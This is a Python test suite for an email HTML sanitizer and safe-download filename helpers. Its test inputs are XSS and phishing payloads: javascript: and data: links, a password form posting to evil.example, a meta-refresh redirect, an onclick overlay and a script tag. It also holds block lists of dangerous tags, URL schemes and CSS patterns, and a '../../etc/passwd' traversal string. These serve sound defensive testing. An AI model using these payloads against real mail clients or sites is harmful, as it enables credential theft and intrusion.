from __future__ import annotations

import json
import re

from mailroom.parsing.attachments import content_disposition, safe_filename
from mailroom.parsing.html import html_to_text, sanitize_html

from .helpers import CORPORA, norm, report

_TAG = re.compile(r'<([a-zA-Z][^\s>/]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*/?>')
_ATTR = re.compile(r'\s+([^\s=>/]+)(?:="([^"]*)")?')
_BAD_TAGS = {
    "script", "iframe", "object", "embed", "form", "input", "button", "base", "meta", "link", "style", "svg",
    "math", "frame", "frameset", "applet", "textarea", "select", "template", "noscript", "video", "audio",
}  # fmt: skip
_BAD_URL = re.compile(r"^\s*(?:javascript|vbscript|data|livescript|file):", re.I)
_BAD_STYLE = re.compile(
    r"expression|url\s*\(|position\s*:\s*(?:fixed|absolute)|behavior|-moz-binding|@import", re.I
)


def _assert_safe(html: str) -> None:
    """Walk the real tags of the (serialised, always double-quoted) output and check every attribute."""
    assert "<!--" not in html
    for m in _TAG.finditer(html):
        tag = m.group(1).lower()
        assert tag not in _BAD_TAGS, m.group(0)
        for a in _ATTR.finditer(m.group(2)):
            name, value = a.group(1).lower(), a.group(2) or ""
            assert not name.startswith("on"), m.group(0)
            assert name not in ("srcdoc", "formaction", "xmlns", "xlink:href", "id", "name", "action"), (
                m.group(0)
            )
            if name in ("href", "src", "cite", "background", "poster"):
                assert not _BAD_URL.match(value), m.group(0)
            if name == "style":
                assert not _BAD_STYLE.search(value), m.group(0)


def test_dompurify_vectors_leave_nothing_dangerous() -> None:
    cases = json.loads((CORPORA / "dompurify" / "expect.json").read_text())
    assert len(cases) == 223
    kept = total = 0
    for case in cases:
        out = sanitize_html(case["payload"]).html
        _assert_safe(out)
        expected = case["expected"] if isinstance(case["expected"], str) else case["expected"][0]
        text = norm(html_to_text(expected))
        if text and "<svg" not in expected and "<math" not in expected and "<form" not in expected:
            total += 1
            kept += int(text in norm(html_to_text(out)))
    # Where DOMPurify keeps benign markup, we keep its text too (measured; SVG/MathML/forms are dropped by design).
    assert report("dompurify benign text kept", kept, total) >= 0.85


def test_email_specific_dangers_removed() -> None:
    html = (
        '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">'
        '<form action="http://evil.example/"><input name="password"><button>go</button></form>'
        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;color:red" onclick="steal()">overlay</div>'
        '<a href="javascript:alert(1)">js</a><a href="data:text/html;base64,PHNjcmlwdD4=">data</a>'
        '<a href="vbscript:msgbox">vb</a><img src="data:image/png;base64,AAAA"><script>alert(1)</script>'
        '<p style="background:url(http://tracker.example/x.gif)">bg</p><iframe src="http://evil.example/"></iframe>'
    )
    out = sanitize_html(html).html
    _assert_safe(out)
    assert '<div style="width:100%;height:100%;color:red">overlay</div>' in out
    assert "alert" not in out and "steal" not in out and "evil.example" not in out and "password" not in out


def test_tables_and_safe_styles_kept() -> None:
    html = '<table border="0" cellpadding="4" style="border-collapse:collapse;width:600px"><tr><td bgcolor="#eee" style="font-weight:bold;padding:4px">A</td></tr></table><font color="#ff0000" face="Arial">red</font>'
    out = sanitize_html(html).html
    assert '<table border="0" cellpadding="4" style="border-collapse:collapse;width:600px">' in out
    assert '<td bgcolor="#eee" style="font-weight:bold;padding:4px">A</td>' in out
    assert '<font color="#ff0000" face="Arial">red</font>' in out


def test_remote_images_blocked_unless_allowed() -> None:
    html = '<p>hi</p><img src="https://tracker.example/open.gif?u=1&amp;m=2" width="1"><img src="//cdn.example/a.png">'
    safe = sanitize_html(html)
    assert safe.has_remote_images
    assert ' src="' not in safe.html
    assert 'data-mr-remote-src="https://tracker.example/open.gif?u=1&amp;m=2"' in safe.html
    assert 'data-mr-remote-src="//cdn.example/a.png"' in safe.html
    allowed = sanitize_html(html, allow_remote=True)
    assert allowed.has_remote_images
    assert '<img src="https://tracker.example/open.gif?u=1&amp;m=2" width="1">' in allowed.html


def test_cid_images_rewritten_through_template() -> None:
    html = '<img src="cid:image001.png@01D9"><img src="CID:%3Clogo%40x%3E">'
    safe = sanitize_html(html, cid_url=lambda cid: f"/api/v1/messages/7/attachments/{cid}")
    assert (
        safe.html
        == '<img src="/api/v1/messages/7/attachments/image001.png@01D9"><img src="/api/v1/messages/7/attachments/logo@x">'
    )
    assert safe.cids == ("image001.png@01D9", "logo@x")
    assert not safe.has_remote_images
    assert sanitize_html(html).html == '<img src="cid:image001.png@01D9"><img src="cid:logo@x">'


def test_links_get_rel_and_relative_urls_dropped() -> None:
    out = sanitize_html(
        '<a href="https://example.com/x">x</a><a href="/api/logout">rel</a><img src="/api/delete">'
    ).html
    assert (
        out
        == '<a href="https://example.com/x" rel="noopener noreferrer">x</a><a rel="noopener noreferrer">rel</a><img>'
    )


def test_html_to_text() -> None:
    html = "<html><head><style>p{}</style><title>T</title></head><body><p>Hello&nbsp;world</p><div>Line 2<br>Line 3</div><ul><li>a</li><li>b</li></ul><script>x()</script></body></html>"
    assert html_to_text(html) == "Hello world\n\nLine 2\nLine 3\n\n- a\n- b\n"


def test_safe_download_filename() -> None:
    assert safe_filename("../../etc/passwd") == "passwd"
    assert safe_filename("a\x00b\r\n.txt") == "ab.txt"
    assert safe_filename("") == "attachment"
    assert safe_filename("CON.txt") == "_CON.txt"
    assert content_disposition("Счёт №15.pdf") == (
        "attachment; filename=\"No15.pdf\"; filename*=UTF-8''%D0%A1%D1%87%D1%91%D1%82%20%E2%84%9615.pdf"
    )
    assert content_disposition('report "Q1".pdf', inline=True) == (
        "inline; filename=\"report _Q1_.pdf\"; filename*=UTF-8''report%20_Q1_.pdf"
    )
